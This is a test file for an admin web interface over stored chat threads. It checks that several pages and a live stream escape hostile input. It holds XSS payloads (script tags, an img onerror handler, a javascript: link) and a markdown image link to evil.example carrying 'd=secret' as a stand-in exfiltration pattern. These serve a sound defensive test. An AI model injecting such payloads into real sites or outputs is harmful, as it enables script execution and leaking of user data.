// What people and models write may be anything: on each page it is text, and nothing of it is loaded or run.
import { afterAll, beforeAll, expect, test } from "vitest";
import { createErasures } from "../../../src/adapters/postgres/admin/erasures.ts";
import { createHolds } from "../../../src/adapters/postgres/admin/holds.ts";
import { createOverviewMaker } from "../../../src/adapters/postgres/admin/overview-maker.ts";
import { sessionNamed, storeReactions, storeThread } from "../../support/stored-threads.ts";
import { openAdminWorld, person, type AdminWorld, type Browser } from "./admin-world.ts";

const SCRIPT = "<script>alert(1)</script>";
const MARKUP = `"><img src=x onerror=alert(1)><style>*{display:none}</style>`;
const HOSTILE = `${SCRIPT} ${MARKUP} \u202e\u2066rtl\u0000\ud800 ![p](https://evil.example/p?d=secret) [a](javascript:alert(1)) https://evil.example/?d=2 ${"x".repeat(150_000)}`;
const SESSION = "slack:T1:C1:171.5";
const PATH = `/admin/threads/${encodeURIComponent(SESSION)}`;
const OWN = "slack:T1:D1:171.6";

let world: AdminWorld;
let browser: Browser;
let run = "";
beforeAll(async () => {
  world = await openAdminWorld();
  const { sql } = world;
  await sql.query({ text: `insert into blobs values ('p', $1), ('t', '[]')` }, [`be helpful ${SCRIPT}`]);
  [run = ""] = await storeThread(sql, {
    session: SESSION,
    said: [HOSTILE, HOSTILE],
    author: { id: "U1", name: `${SCRIPT}${MARKUP}\u2069\u202e` },
    error: `${SCRIPT}${MARKUP}`,
    reason: "error",
    model: `${SCRIPT}${MARKUP}`,
  });
  await sql.query({
    text: `update model_calls set params = '{"v":1,"model":{"name":"m","contextWindow":9,"caching":"automatic"},"outputTokens":9,"caching":false}'`,
  });
  const reaction = {
    person: { id: MARKUP, name: `${SCRIPT}${MARKUP}\u2069\u202e` },
    shown: `${SCRIPT}${MARKUP}`,
    at: 1,
  };
  await storeReactions(
    sql,
    SESSION,
    [run],
    [
      { ...reaction, n: 0 },
      { ...reaction, n: 1, takenAt: 2 },
    ],
  );
  await sql.query({ text: "update sessions set title = $1" }, [`${SCRIPT}${MARKUP}`]);
  await createOverviewMaker(sql).make(sessionNamed(SESSION));
  const boss = person("T1", "UBOSS", `${SCRIPT}${MARKUP}`);
  world.makeAdmin(boss);
  await storeThread(sql, { session: "slack:T1:C1:171.8", said: ["soon gone", "yes"] });
  await createErasures(sql).begin(
    "erasure1",
    { kind: "thread", subject: sessionNamed("slack:T1:C1:171.8") },
    HOSTILE,
    boss,
  );
  await createHolds(sql).set("hold1", { kind: "person", subject: "U7" }, HOSTILE, boss);
  // Somebody's own, whose reason has not been given, and a tool that found more than the model received.
  await storeThread(sql, {
    session: OWN,
    said: [HOSTILE, HOSTILE],
    author: { id: "U1", name: `${SCRIPT}${MARKUP}` },
    isDirect: true,
  });
  await createOverviewMaker(sql).make(sessionNamed(OWN));
  await sql.query(
    {
      text: `insert into tool_results (run, round, call, name, ok, content) values ($1, 1, 't1', 'look', true, $2)`,
    },
    [run, HOSTILE.replaceAll("\u0000", "")],
  );
  browser = await world.signedIn(boss);
});
afterAll(() => world[Symbol.asyncDispose]());

function expectHarmless(text: string): void {
  expect(text).toContain("&lt;script&gt;alert");
  for (const raw of ["<script>alert", "<img src=x", "<style>", "\u0000", 'javascript:alert(1)"'])
    expect(text).not.toContain(raw);
  // No name or label goes on turning letters around behind itself.
  for (const [, called = ""] of text.matchAll(/<bdi[^>]*>([^<]*)<\/bdi>/g))
    expect(called).not.toMatch(/[\u202a-\u202e]|^[^\u2066-\u2068]*\u2069/u);
  // No code on the page itself, and nothing from elsewhere.
  expect(text.replaceAll(/"[^"]*"/g, `""`)).not.toMatch(/<[^>]+\s(?:style|on[a-z]+)=/);
  const addresses = [...text.matchAll(/<[a-z]+\s[^<>]*?\b(?:href|src|action)="([^"]*)"/g)].map(
    ([, address]) => address,
  );
  expect(addresses.length).toBeGreaterThan(5);
  expect(addresses.filter((address) => !/^(?:\/admin|#)/.test(address ?? ""))).toEqual([]);
}

test.each<[string, string | (() => string), number?]>([
  ["the list", "/admin/"],
  ["a search", `/admin/?q=${encodeURIComponent(`rtl ${SCRIPT}`)}`],
  ["a search that finds nothing", `/admin/?q=${encodeURIComponent(`nothing${MARKUP}`)}`],
  [
    "filters",
    `/admin/?channel=${encodeURIComponent(MARKUP)}&model=${encodeURIComponent(SCRIPT)}&cost=${MARKUP}`,
  ],
  ["a thread", PATH],
  ["what people saw", `${PATH}?side=people`],
  ["an entry", `${PATH}/entries/1/1`],
  ["a request", () => `${PATH}/calls/c${run}`],
  ["what is being done", "/admin/operations"],
  ["the audit log", "/admin/audit"],
  ["who is signed in", "/admin/browsers"],
  ["erasing and holds", "/admin/erasures"],
  ["an erasure", "/admin/erasures/erasure1"],
  ["all of a result", () => `${PATH}/results/${run}/1/t1`],
  [
    "an export",
    `/admin/export?model=${encodeURIComponent(`${SCRIPT}${MARKUP}`)}&x=${encodeURIComponent(MARKUP)}`,
  ],
  ["the reason for reading one", `/admin/threads/${encodeURIComponent(OWN)}?at=1-1&x=${MARKUP}`, 403],
  ["the step before one", `${PATH}/erase`],
])("S13: on the page of %s hostile text is text", async (_, path, status = 200) => {
  const page = await browser.get(typeof path === "string" ? path : path(), { "user-agent": MARKUP });
  expect(page.status).toBe(status);
  expectHarmless(page.text);
  // A line without end is cut where it is not asked for as a whole.
  if (path === PATH) expect(page.text.length).toBeLessThan(60_000);
});

test("S13: what a page is kept up to date with is text too", async () => {
  const over = new AbortController();
  const response = await fetch(`${world.url}${PATH}/live`, {
    headers: { cookie: browser.cookie },
    signal: over.signal,
  });
  const decoder = new TextDecoder();
  let text = "";
  for await (const part of response.body ?? []) {
    text += decoder.decode(part, { stream: true });
    // The first content as a whole.
    if (/event: content\n[^]*\n\n/.test(text)) break;
  }
  over.abort();
  expectHarmless(text);
});

test("the bytes of a request are saved and never shown as a page", async () => {
  const saved = await browser.get(`${PATH}/calls/c${run}?raw`);
  expect(saved.headers.get("content-type")).toBe("application/octet-stream");
  expect(saved.headers.get("content-disposition")).toMatch(
    /^attachment; filename="request-c[a-z0-9]+\.json"$/,
  );
  expect(saved.headers.get("x-content-type-options")).toBe("nosniff");
});
